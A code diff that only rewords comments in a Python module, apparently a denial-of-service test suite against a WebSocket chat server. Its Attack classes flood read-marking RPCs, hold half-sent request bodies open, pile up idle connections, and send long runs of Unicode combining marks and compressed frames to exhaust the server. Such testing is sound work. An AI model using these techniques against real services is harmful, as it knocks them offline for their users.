@@ -16,8 +16,8 @@ from victim import MIB
 from wires import Pace, Wire, frame
 
 UNCOUNTED: list[type[Attack]] = []
-# 62 marks above and below a letter, in two orders that Unicode takes for the same: to tell that two such texts differ at
-# their end, both have to be brought into the normal form first.
+# 62 marks above and below a letter, in two canonically equivalent orders: comparing two such texts that differ at their
+# end requires normalizing both first.
 BELOW, ABOVE = "\u0316" * 31, "\u0301" * 31
 
 
@@ -87,7 +87,7 @@ class MarkedUnread(Totals):
         await flood(victim, MALLORY, [
             rpc("read.mark", channel_id=self.unread["channel_id"]), rpc("read.mark_unread", **self.unread)],
             seconds, tally, connections=1, in_flight=60, pace=Pace(195, 900))
-        # One refusal, and the two no longer take turns.
+        # After one refusal the two no longer alternate.
         self.facts["events"] = (tally.answered - sum(tally.refused.values())) // 2
 
 
@@ -108,7 +108,7 @@ class EquivalentTypes(Attack):
 
 
 class Raw:
-    """A WebSocket whose answers are thrown away as they come."""
+    """A WebSocket whose responses are discarded as they arrive."""
 
     def __init__(self, reader, writer):
         self.reader, self.writer, self.bytes = reader, writer, 0
@@ -153,7 +153,7 @@ DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits"
 
 
 def deflated(text: bytes) -> bytes:
-    """One compressed message that does not build on others. RFC 7692 §7.2.1."""
+    """One independently compressed message. RFC 7692 §7.2.1."""
     deflater = zlib.compressobj(9, zlib.DEFLATED, -12)
     data = (deflater.compress(text) + deflater.flush(zlib.Z_SYNC_FLUSH))[:-4]
     whole = bytearray(frame(data))
@@ -186,7 +186,7 @@ class RefusedUnread(Attack):
                         async with asyncio.timeout(max(0.05, end - time.monotonic())):
                             await wire.write(command * 100)
                         tally.sent += 100
-                        # As many refusals later the server pauses for a second.
+                        # After as many refusals the server pauses for a second.
                         await asyncio.sleep(1)
                     received[0] += wire.bytes
                     await wire.close()
@@ -288,7 +288,7 @@ class HalfBodies(Attack):
                     await loop.sock_sendall(plain, body)
                     held[0] += 1
                     tally.sent += 1
-                    # Until the server ends it.
+                    # Until the server closes it.
                     with contextlib.suppress(TimeoutError):
                         async with asyncio.timeout(max(0.1, end - time.monotonic())):
                             await loop.sock_recv(plain, 4_096)
@@ -408,7 +408,7 @@ class Spammed(Attack):
             for _ in range(self.of(100)):
                 wire = await Wire.open(victim)
                 line = await wire.connect(victim.token(user))
-                # They are there and read later.
+                # They exist and are read later.
                 wire.transport.pause_reading()
                 wires.append(wire if line else None)
 
